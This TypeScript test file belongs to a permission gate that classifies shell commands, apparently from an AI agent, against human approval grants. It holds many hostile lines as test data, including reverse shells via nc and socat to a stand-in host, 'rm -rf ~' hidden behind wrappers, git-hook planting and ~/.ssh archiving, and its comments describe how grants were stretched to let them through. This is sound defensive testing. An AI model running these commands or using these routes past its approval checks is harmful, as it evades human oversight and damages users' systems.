// What the GTFOBins corpus (classify-gtfobins.test.ts) found, in our own words, so it stays
// pinned where no copy of GTFOBins is at hand. Each row is first shown doing its harm with
// the real program where this machine has it (the control), then judged by the daemon as
// `airlock exec --shell` in a task at /tmp/w would be, against the grants a human would
// make; each failed on the code before its fix.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { classifyShell } from '../../main/core/classify/shell';
import type { Grant } from '../../main/contract/approver';
import { grantTask, lineCoveredBy } from '../fuzz/classify-write-grants';
import { assessRisk } from '../../main/core/risk';
import { suggest } from '../../main/core/suggest';
import type { CoreRequest } from '../../main/core/request';

const TASK = '/tmp/w';
const c = (cmd: string) => classifyShell(cmd, TASK);
const why = (cmd: string) => c(cmd).riskReasons.map((r) => r.reason).join(' | ');
const have = (prog: string) => ['/usr/bin', '/bin', '/usr/sbin'].some((d) => existsSync(path.join(d, prog)));

/** Runs `script` with the real bash in a fresh git repository holding a.txt; returns which of `look` exist afterwards. */
function bash(script: string, look: string[]): string[] {
  const dir = mkdtempSync(path.join(tmpdir(), 'airlock-gtfo-'));
  try {
    writeFileSync(path.join(dir, 'a.txt'), 'a\n');
    execFileSync('git', ['init', '-q'], { cwd: dir });
    try {
      execFileSync('bash', ['-c', script], { cwd: dir, env: { PATH: process.env.PATH, HOME: dir, GIT_CONFIG_NOSYSTEM: '1' }, stdio: 'ignore', timeout: 10_000 });
    } catch {
      /* the effect is what counts */
    }
    return look.filter((f) => existsSync(path.join(dir, f)));
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

const grant = (resource: string, action: Grant['action'] = 'write'): Grant => ({ id: 'g', task: grantTask, source: '*', tool: '*', action, resource, key: null, effect: 'allow', expiresAt: null, usesLeft: null, forwarded: false, remote: null, note: null, createdAt: 0, createdBy: 'human', revokedAt: null, lastUsedAt: null, when: null });
/** Whether `g` alone lets the daemon allow `line` (a scratch host /tmp with no links in it). */
function covers(line: string, g: Grant): boolean {
  const hostTmp = mkdtempSync(path.join(tmpdir(), 'airlock-gtfo-tmp-'));
  try {
    mkdirSync(path.join(hostTmp, 'w'));
    return lineCoveredBy(line, g, hostTmp);
  } finally {
    rmSync(hostTmp, { recursive: true, force: true });
  }
}

test('a long option abbreviated as getopt takes it (tar --to-comm=CMD, --use-comp=CMD, git rebase --exe=CMD, split --fil=CMD) runs CMD: execute, covered by no write grant on the task or the program', () => {
  // Controls: the real programs take the abbreviation and run the command.
  assert.deepEqual(bash("tar cf t.tar a.txt; tar xf t.tar --to-comm='touch RAN'", ['RAN']), ['RAN'], 'control: tar --to-comm');
  assert.deepEqual(bash("tar cf t.tar a.txt --use-comp='sh -c \"touch RAN; cat\"'", ['RAN']), ['RAN'], 'control: tar --use-comp');
  assert.deepEqual(bash("split -n 1 --fil='touch RAN' a.txt", ['RAN']), ['RAN'], 'control: split --fil');
  if (have('zip')) assert.deepEqual(bash("zip -q z.zip a.txt; zip -q --unzip-c='touch RAN' -T z.zip a.txt", ['RAN']), ['RAN'], 'control: zip --unzip-c');
  assert.deepEqual(bash("git -c user.email=a@b -c user.name=a commit -q --allow-empty -m a; git -c user.email=a@b -c user.name=a commit -q --allow-empty -m b; git -c user.email=a@b -c user.name=a rebase --exe='touch RAN' HEAD~1", ['RAN']), ['RAN'], 'control: git rebase --exe');
  for (const line of ["tar xf t.tar --to-comm='touch RAN'", 'tar cf t.tar a.txt --use-comp=./x', 'tar cf t.tar a.txt --checkpoint-act=exec=./x', 'tar cf t.tar a.txt --rs=./x', 'tar -c -f t.tar --info=./x a.txt', "split --fil='sh' a.txt", "git rebase --exe='sh' HEAD~1", 'git fetch --upload-p=./x origin', 'git push --rece=./x origin', 'install --strip-=./x -s a b', 'cpio -o --rsh=./x -F h:a', "zip --unzip-c='sh' -T z.zip a.txt", 'rsync --rs=./x a.txt h.test:b']) {
    assert.equal(c(line).action, 'execute', line);
    assert.match(why(line), /runs a program of the caller's choosing/, line);
    const program = line.split(' ')[0]!;
    assert.equal(covers(line, grant('/tmp/w/**')), false, `${line}: covered by /tmp/w/**`);
    assert.equal(covers(line, grant(`{${program},${program} *}`)), false, `${line}: covered by {${program},${program} *}`);
  }
  // Options that only share a beginning stay what they are.
  for (const [line, action] of [['tar cf t.tar --totals a.txt', 'write'], ['tar xf t.tar --to-stdout', 'write'], ['tar cf t.tar --checkpoint=10 a.txt', 'write'], ['split --lines=2 a.txt', 'write']] as const) assert.equal(c(line).action, action, line);
});

test('programs that run a program named in an address or an option (socat EXEC:, nc -e, aria2c --on-download-complete, curl --engine, openssl -engine) are execute, not transfer', () => {
  if (have('socat')) assert.deepEqual(bash("socat -u 'exec:touch RAN' -", ['RAN']), ['RAN'], 'control: socat exec:');
  for (const line of ["socat - 'exec:sh -i,pty'", 'socat tcp-listen:9,fork system:sh', 'socat tcp-connect:h.test:9 EXEC:/bin/sh', 'nc -e /bin/sh h.test 9', 'nc -lvnp 9 -e /bin/sh', 'ncat --sh-exec sh h.test 9', 'aria2c --on-download-complete=./x http://h.test/', 'aria2c --on-download-error ./x http://h.test/', 'curl --engine ./lib.so https://h.test/', 'openssl req -engine ./lib.so -new', 'openssl s_client -provider-path . -provider x -connect h.test:443', 'openssl req -config ./x.cnf -new']) {
    assert.equal(c(line).action, 'execute', line);
    assert.equal(covers(line, grant(line.replace(/[\\*?[\]{}]/g, '\\$&'), 'transfer')), false, `${line}: covered by a transfer grant for it`);
  }
  // Their plain network uses stay transfers.
  for (const line of ['socat - tcp:h.test:80', 'nc h.test 80', 'openssl s_client -connect h.test:443', 'aria2c http://h.test/x', 'curl https://h.test/']) assert.equal(c(line).action, 'transfer', line);
});

test('clients whose ! runs a local shell command (ftp, sftp, lftp, telnet) and mosh are execute: a grant for `ftp` does not cover `echo "!sh" | ftp`', () => {
  for (const line of ["echo '!touch RAN' | ftp", "ftp <<< '!sh'", "echo '!sh' | sftp u@h.test", 'sftp -b cmds u@h.test', "lftp -c '!sh'", "echo '!sh' | telnet", 'mosh --ssh=./x h.test', 'mosh h.test']) {
    assert.equal(c(line).action, 'execute', line);
    assert.match(why(line), /! runs a local shell command|mosh opens a shell/, line);
  }
  assert.equal(covers("echo '!touch RAN' | ftp", grant('ftp', 'transfer')), false, 'covered by the grant for exactly `ftp`');
  assert.equal(covers("echo '!touch RAN' | sftp u@h.test", grant('sftp u@h.test', 'transfer')), false, 'covered by the grant for exactly `sftp u@h.test`');
});

test('openssl -out FILE writes FILE: named, and a hook or a file outside the task is covered by no grant on the task or openssl', () => {
  if (have('openssl')) assert.deepEqual(bash('mkdir -p .git/hooks; echo x | openssl enc -out .git/hooks/pre-commit', ['.git/hooks/pre-commit']), ['.git/hooks/pre-commit'], 'control: openssl enc -out wrote the hook');
  for (const [line, file] of [['echo x | openssl enc -out .git/hooks/pre-commit', '/tmp/w/.git/hooks/pre-commit'], ['openssl enc -in a.txt -out=/tmp/outside/x', '/tmp/outside/x'], ['openssl genrsa --out k.pem 2048', '/tmp/w/k.pem'], ['openssl req -new -keyout k.pem -out r.csr', '/tmp/w/r.csr']] as const) {
    assert.equal(c(line).action, 'write', line);
    assert.ok(c(line).resources.includes(file), `${line}: ${JSON.stringify(c(line).resources)}`);
  }
  assert.equal(covers('echo x | openssl enc -out .git/hooks/pre-commit', grant('/tmp/w/**')), false, 'covered by /tmp/w/**');
  assert.equal(covers('echo x | openssl enc -out .git/hooks/pre-commit', grant('{openssl,openssl *}')), false, 'covered by {openssl,openssl *}');
  assert.equal(covers('openssl enc -in a.txt -out b.enc', grant('/tmp/w/**')), true, 'control: a write inside the task is covered');
});

test('what cpio -i, cpio -p, git apply --unsafe-paths, wget -i and aria2c -i write or fetch is not on the command line: no grant on the task or the program covers it', () => {
  if (have('cpio')) assert.deepEqual(bash('mkdir -p s/.git/hooks; echo x > s/.git/hooks/pre-commit; (cd s && echo .git/hooks/pre-commit | cpio -pdm ..)', ['.git/hooks/pre-commit']), ['.git/hooks/pre-commit'], 'control: cpio -p wrote the hook');
  assert.deepEqual(bash("printf 'diff --git a/pre-commit b/pre-commit\\nnew file mode 100755\\n--- /dev/null\\n+++ b/pre-commit\\n@@ -0,0 +1 @@\\n+echo x\\n' > p.diff; git apply --unsafe-paths --directory=.git/hooks p.diff", ['.git/hooks/pre-commit']), ['.git/hooks/pre-commit'], 'control: git apply --unsafe-paths wrote the hook');
  for (const line of ['cpio -idv < a.cpio', 'cpio -i -F a.cpio', 'cpio --extract < a.cpio', 'cd s && echo .git/hooks/pre-commit | cpio -pdm ..', 'git apply --unsafe-paths --directory=.git/hooks p.diff', 'wget -i urls.txt', 'wget --input-file=urls.txt -P d', 'aria2c -i urls.txt']) {
    const program = line.replace(/^.*\| /, '').split(' ')[0]!;
    const head = program === 'git' ? 'git apply' : program;
    assert.ok(c(line).parts.some((p) => p.unlisted), `${line}: ${JSON.stringify(c(line).parts)}`);
    for (const action of ['write', 'transfer'] as const) {
      assert.equal(covers(line, grant('/tmp/w/**', action)), false, `${line}: covered by /tmp/w/** (${action})`);
      assert.equal(covers(line, grant(`{${head},${head} *}`, action)), false, `${line}: covered by {${head},${head} *} (${action})`);
    }
  }
  // Inside the work tree git apply still writes whatever the patch names (.claude/settings.json too): placed nowhere (lead, session 27).
  assert.equal(covers('git apply p.diff', grant('{git apply,git apply *}')), false, 'git apply p.diff: covered by {git apply,git apply *}');
  assert.equal(c('cpio -o -F u@h.test:a.cpio').action, 'transfer');
  assert.deepEqual(c('find . | cpio -o -F a.cpio').resources, ['/tmp/w', '/tmp/w/a.cpio']);
  // cpio -o and zip -@ archive what standard input names (lead, session 28): `cpio -o < list > k`
  // copied ~/.ssh into the project under a grant for it, if the list named it.
  for (const line of ['cpio -o < list > k.cpio', 'cpio --create -F k.cpio < list', 'find . | cpio -o -F a.cpio', 'zip k.zip -@ < list', 'zip -r@ k.zip < list', 'zip k.zip --names-stdin < list', 'cat list | zip -q k.zip --names-stdin']) {
    assert.ok(c(line).parts.some((p) => p.unlisted), `${line}: ${JSON.stringify(c(line).parts)}`);
    assert.equal(covers(line, grant('/tmp/w/**')), false, `${line}: covered by /tmp/w/**`);
  }
  assert.equal(covers('zip k.zip a.txt', grant('/tmp/w/**')), true, 'control: zip of a named file in the task is covered');
});

test('chrt PRIORITY CMD and taskset MASK CMD: the word before the command is not the command (chrt 1 rm -rf ~ was a program named 1, and {chrt,chrt *} covered it); strace -f CMD runs CMD', () => {
  assert.deepEqual(bash('taskset 1 touch RAN', ['RAN']), ['RAN'], 'control: taskset ran the command after the mask');
  for (const line of ['chrt 1 rm -rf ~', 'chrt -f 1 rm -rf ~', 'taskset 1 rm -rf ~', 'taskset -c 0 rm -rf ~', 'chrt 1 sh -p']) {
    assert.ok(!c(line).riskReasons.some((r) => /^\d is not a known/.test(r.reason)), `${line}: ${why(line)}`);
  }
  assert.deepEqual(c('chrt 1 rm -rf ~').resources, ['~']);
  assert.equal(covers('chrt 1 rm -rf ~', grant('{chrt,chrt *}', 'execute')), false, 'covered by {chrt,chrt *}');
  assert.equal(covers('taskset 1 rm -rf ~', grant('{taskset,taskset *}', 'execute')), false, 'covered by {taskset,taskset *}');
  assert.deepEqual(c('chrt -p 1 123').resources, [], 'chrt -p changes a running process: no command');
  // strace -f is a flag: the command after it is the command (`strace -f cp x .git/hooks/pre-commit` showed a program named x).
  assert.deepEqual(c('strace -f cp x .git/hooks/pre-commit').resources, ['/tmp/w/x', '/tmp/w/.git/hooks/pre-commit']);
  assert.deepEqual(c('ltrace -f -o log rm -rf ~').resources, ['~']);
});

test('a hook written and run by git in one command is execute; installing a crontab is execute', () => {
  for (const line of ['echo x > .git/hooks/pre-commit; git -C . commit -m x', 'cp a .git/hooks/post-checkout && git checkout -q .']) assert.equal(c(line).action, 'execute', line);
  for (const line of ['crontab -e', 'crontab jobs.txt', 'echo "* * * * * sh" | crontab -']) {
    assert.equal(c(line).action, 'execute', line);
    assert.match(why(line), /installs scheduled jobs/, line);
  }
  assert.equal(c('crontab -l').action, 'read');
});

test('files other tools run (~/.lessfilter, toprc, .rtorrent.rc, .wgetrc, aria2.conf) are places that run code later', () => {
  for (const file of ['/home/u/.lessfilter', '/home/u/.config/procps/toprc', '/home/u/.rtorrent.rc', '/home/u/.wgetrc', '/home/u/.aria2/aria2.conf']) {
    const r = { source: 'exec', tool: 'exec', action: 'write', resource: file, resources: [file], summary: '', argsText: null, args: {}, task: 't', cwd: TASK, classifierRisk: [] } as CoreRequest;
    const risk = assessRisk(r, {});
    assert.ok(risk.reasons.some((x) => /a file a shell, session or tool runs/.test(x)), `${file}: ${JSON.stringify(risk)}`);
  }
});

test('the suggestion for a runner keeps what it runs, or is only the exact command ({npm exec,npm exec *} for npm exec /bin/sh covered npm exec rm -rf ~)', () => {
  const offered = (line: string) => {
    const cl = c(line);
    const r = { source: 'exec', tool: 'exec', action: cl.action, resource: cl.resources[0] ?? null, resources: cl.resources, summary: line, argsText: null, args: { command: line }, task: 't', cwd: TASK, parts: cl.parts, classifierRisk: cl.riskReasons } as CoreRequest;
    return suggest(r, assessRisk(r, {}), TASK)?.resource ?? null;
  };
  for (const line of ['npm exec /bin/sh', 'yarn exec /bin/sh', 'uv run /bin/sh', 'npx -y x', 'bundle exec /bin/sh', 'docker run -v /:/mnt alpine sh', 'podman run --privileged alpine sh', 'ssh -o X=y localhost sh']) {
    const s = offered(line);
    assert.ok(s === null || s === line.replace(/[\\*?[\]{}]/g, '\\$&'), `${line}: offered ${s}`);
  }
  for (const line of ['npm exec /bin/sh', 'uv run /bin/sh', 'bundle exec /bin/sh']) {
    const pattern = offered(line.replace('/bin/sh', 'tsc'));
    assert.ok(pattern !== null && pattern.includes('tsc'), `${line}: ${pattern}`);
    assert.equal(covers(line.replace('/bin/sh', 'rm -rf ~'), grant(pattern, 'execute')), false, `${pattern} covers rm -rf ~`);
  }
  assert.equal(offered('ssh build.example.com make'), '{ssh build.example.com,ssh build.example.com *}');
});

test('a wrapper\'s directory option abbreviated as getopt takes it (unshare --w=DIR, nsenter --w=DIR, sudo --chd=DIR) still puts the command\'s paths under DIR (unshare -r --w=.git/hooks touch pre-commit wrote the hook, judged ./pre-commit)', () => {
  const control = bash('mkdir -p .git/hooks; unshare -r --w=.git/hooks touch pre-commit', ['.git/hooks/pre-commit', 'pre-commit']);
  assert.ok(control.length === 0 || control[0] === '.git/hooks/pre-commit', `control: ${JSON.stringify(control)}`);
  for (const line of ['unshare -r --w=.git/hooks touch pre-commit', 'unshare -r --w .git/hooks touch pre-commit', 'nsenter --w=.git/hooks touch pre-commit', 'sudo --chd=.git/hooks touch pre-commit', 'sudo --chdi .git/hooks touch pre-commit']) {
    assert.deepEqual(c(line).resources, ['/tmp/w/.git/hooks/pre-commit'], line);
    assert.equal(covers(line, grant('/tmp/w/**', 'execute')), false, `${line}: covered by /tmp/w/**`);
  }
  for (const line of ['unshare -r --r=/tmp/x touch pre-commit', 'nsenter --ro=/tmp/x touch pre-commit']) assert.equal(covers(line, grant('/tmp/w/**', 'execute')), false, `${line}: covered by /tmp/w/**`);
  assert.deepEqual(c('nice --adj 5 rm x').resources, ['/tmp/w/x'], "an abbreviated option's value is not the command");
});

test('the suggestion for a wrapper keeps what it runs ({timeout,timeout *} offered for timeout 60 npm test covered timeout 5 python3 -c …)', () => {
  const offered = (line: string) => {
    const cl = c(line);
    const r = { source: 'exec', tool: 'exec', action: cl.action, resource: cl.resources[0] ?? null, resources: cl.resources, summary: line, argsText: null, args: { command: line }, task: 't', cwd: TASK, parts: cl.parts, classifierRisk: cl.riskReasons } as CoreRequest;
    return suggest(r, assessRisk(r, {}), TASK)?.resource ?? null;
  };
  const rows: [string, string | null, string][] = [
    ['timeout 60 npm test', '{timeout 60 npm test,timeout 60 npm test *}', 'timeout 5 python3 -c "import os"'],
    ['env FOO=1 npm test', '{env FOO=1 npm test,env FOO=1 npm test *}', 'env FOO=1 python3 -c "import os"'],
    ['nice -n 5 timeout 60 make build', '{nice -n 5 timeout 60 make build,nice -n 5 timeout 60 make build *}', 'nice -n 5 timeout 60 python3 -c "import os"'],
    ['stdbuf -oL npm test', '{stdbuf -oL npm test,stdbuf -oL npm test *}', 'stdbuf -oL sh -c "id"'],
    ['nohup ./server', null, 'nohup python3 -c "import os"'],
    ['strace -f ls', '{strace -f ls,strace -f ls *}', 'strace -f python3 -c "import os"'],
  ];
  for (const [line, expected, other] of rows) {
    assert.equal(offered(line), expected, line);
    if (expected) assert.equal(covers(other, grant(expected, 'execute')), false, `${expected} covers ${other}`);
  }
  // Before: the wrapper alone, which covers anything it runs.
  assert.equal(covers('timeout 5 python3 -c "import os"', grant('{timeout,timeout *}', 'execute')), true, 'control: {timeout,timeout *} covers any program');
});
